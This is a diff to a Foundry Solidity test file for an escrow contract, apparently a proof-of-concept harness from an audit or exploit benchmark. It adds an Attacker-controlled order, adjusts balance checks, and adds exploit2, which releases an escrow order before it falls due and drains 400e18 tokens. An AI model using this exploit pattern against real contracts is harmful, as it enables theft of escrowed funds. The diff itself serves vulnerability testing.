@@ -41,14 +41,15 @@ contract Proof {
         coin.approve(address(escrow), 2_000e18);
         escrow.order(BEN, 500e18, 30 days);
         escrow.order(CAT, 300e18, 10 days);
-        vm.stopPrank();
         mallory = new Attacker(escrow);
+        escrow.order(address(mallory), 400e18, 60 days);
+        vm.stopPrank();
     }
 
     function test_Regular() public {
         vm.startPrank(ANA);
         uint256 id = escrow.order(BEN, 200e18, 1 days);
-        require(id == 2 && coin.balanceOf(address(escrow)) == 1_000e18, "ordered");
+        require(id == 3 && coin.balanceOf(address(escrow)) == 1_400e18, "ordered");
         escrow.release(id);
         require(coin.balanceOf(BEN) == 200e18, "released");
         escrow.order(BEN, 50e18, 5 days);
@@ -58,10 +59,10 @@ contract Proof {
         vm.stopPrank();
         vm.prank(BEN);
         escrow.decline(0);
-        require(coin.balanceOf(ANA) == 1_450e18, "declined");
+        require(coin.balanceOf(ANA) == 1_050e18, "declined");
         vm.warp(START + 19 days);
-        escrow.release(3);
-        require(coin.balanceOf(BEN) == 250e18 && coin.balanceOf(address(escrow)) == 0, "released in the end");
+        escrow.release(4);
+        require(coin.balanceOf(BEN) == 250e18 && coin.balanceOf(address(escrow)) == 400e18, "released in the end");
     }
 
     function test_RefusesOrders() public {
@@ -77,9 +78,10 @@ contract Proof {
         vm.startPrank(CAT);
         vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
         escrow.decline(0);
-        vm.warp(START + 44 days - 1);
+        vm.warp(START + 16 days - 1);
         vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
         escrow.release(0);
+        vm.warp(START + 44 days - 1);
         vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
         escrow.reclaim(0, CAT);
         vm.stopPrank();
@@ -109,6 +111,23 @@ contract Proof {
         require(coin.balanceOf(address(mallory)) >= 500e18, "nothing gained");
     }
 
+    // a fortnight before the bales are due
+    function exploit2() public {
+        vm.warp(START + 46 days);
+        mallory.release();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(forMill() == 0 && coin.balanceOf(address(mallory)) >= 400e18, "nothing lost");
+    }
+
+    // of the third price, as long as the mill may still find fault
+    function forMill() public view returns (uint256) {
+        (,, uint256 price, uint256 due) = escrow.orders(2);
+        return block.timestamp >= due + escrow.GRACE() ? 400e18 : price + coin.balanceOf(ANA) - 800e18;
+    }
+
     function target() public view returns (address) {
         return address(escrow);
     }
@@ -127,6 +146,10 @@ contract Attacker {
 
     constructor(CottonEscrow e) {
         escrow = e;
+    }
+
+    function release() external {
+        escrow.release(2);
     }
 
     function run() external {
